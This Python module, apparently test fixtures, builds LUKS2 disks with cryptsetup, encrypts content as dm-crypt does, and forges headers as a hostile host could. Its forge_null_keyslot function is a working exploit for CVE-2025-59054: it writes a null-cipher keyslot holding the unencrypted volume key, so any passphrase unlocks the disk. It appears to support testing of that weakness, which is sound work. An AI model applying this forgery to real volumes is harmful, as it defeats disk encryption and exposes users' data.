# SPDX-License-Identifier: Apache-2.0
"""Disks with LUKS2: made by the real cryptsetup, filled without the kernel's help, and forged as a host can."""
import hashlib
import json
import os
import pathlib
import shutil
import struct
import subprocess

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

CIPHER = "aes-xts-plain64"
KEY_SIZE = 64
BINARY = 4096
CHECKSUM = slice(448, 448 + 64)
SECTOR = 512
STRIPES = 4000


def cryptsetup():
    """The program's path, or None."""
    return shutil.which("cryptsetup", path=os.environ["PATH"] + ":/usr/sbin:/sbin")


def make(path, uuid, passphrase, volume_key, *more):
    """A disk of 16 MiB and what the caller appends; it opens quickly."""
    path = pathlib.Path(path)
    with open(path, "wb") as disk:
        disk.truncate(16 << 20)
    key = path.with_suffix(".volume-key")
    key.write_bytes(volume_key)
    # The header's 16 MiB, and no room for data: cryptsetup wants some.
    with open(path, "r+b") as disk:
        disk.truncate((16 << 20) + SECTOR * 8)
    subprocess.run([cryptsetup(), "luksFormat", "--batch-mode", "--type=luks2", f"--cipher={CIPHER}",
                    f"--key-size={KEY_SIZE * 8}", f"--uuid={uuid}", "--sector-size=512", "--pbkdf=pbkdf2",
                    "--pbkdf-force-iterations=1000", f"--master-key-file={key}", "--key-file=-", *more, path],
                   input=passphrase, check=True, stderr=subprocess.PIPE)
    key.unlink()
    return path


def fill(path, content, volume_key):
    """Puts a file system behind the header, encrypted as dm-crypt does."""
    with open(path, "r+b") as disk, open(content, "rb") as plain:
        disk.seek(16 << 20)
        sector = 0
        while block := plain.read(SECTOR):
            encryptor = Cipher(algorithms.AES(volume_key), modes.XTS(struct.pack("<QQ", sector, 0))).encryptor()
            disk.write(encryptor.update(block) + encryptor.finalize())
            sector += 1
        disk.truncate()


class Header:
    """Both copies of a header, which are sealed anew when they are written."""

    def __init__(self, path):
        self.path = pathlib.Path(path)
        with open(self.path, "rb") as disk:
            self.size = struct.unpack(">Q", disk.read(16)[8:])[0]
            disk.seek(0)
            self.copies = [bytearray(disk.read(self.size)) for _ in range(2)]
        self.json = json.loads(self.text(0))

    def text(self, copy):
        """The JSON of a copy."""
        return bytes(self.copies[copy][BINARY:]).split(b"\0", 1)[0]

    def put(self, text, copies=(0, 1)):
        """Puts any text where the JSON is."""
        for copy in copies:
            self.copies[copy][BINARY:] = text.ljust(self.size - BINARY, b"\0")

    def write(self, seal=True):
        """Writes them back, with checksums that fit."""
        for copy in self.copies if seal else []:
            copy[CHECKSUM] = bytes(64)
            copy[CHECKSUM] = hashlib.sha256(copy).digest().ljust(64, b"\0")
        with open(self.path, "r+b") as disk:
            disk.write(b"".join(self.copies))

    def write_json(self):
        """The same with the JSON as it was changed."""
        self.put(json.dumps(self.json, separators=(",", ":")).encode())
        self.write()


def diffuse(block):
    """LUKS's own, of its anti-forensic splitter."""
    parts = [block[i:i + 32] for i in range(0, len(block), 32)]
    return b"".join(hashlib.sha256(struct.pack(">I", i) + part).digest()[:len(part)] for i, part in enumerate(parts))


def split(key):
    """A key as a keyslot's area has it."""
    stripes, last = [], bytes(len(key))
    for _ in range(STRIPES - 1):
        stripes.append(os.urandom(len(key)))
        last = diffuse(bytes(a ^ b for a, b in zip(last, stripes[-1])))
    return b"".join(stripes) + bytes(a ^ b for a, b in zip(last, key))


def forge_null_keyslot(path, volume_key):
    """CVE-2025-59054: a keyslot with a null cipher gives the host's volume key to whatever passphrase."""
    header = Header(path)
    area = header.json["keyslots"]["0"]["area"]
    area["encryption"] = "cipher_null-ecb"
    header.write_json()
    with open(path, "r+b") as disk:
        disk.seek(int(area["offset"]))
        disk.write(split(volume_key))
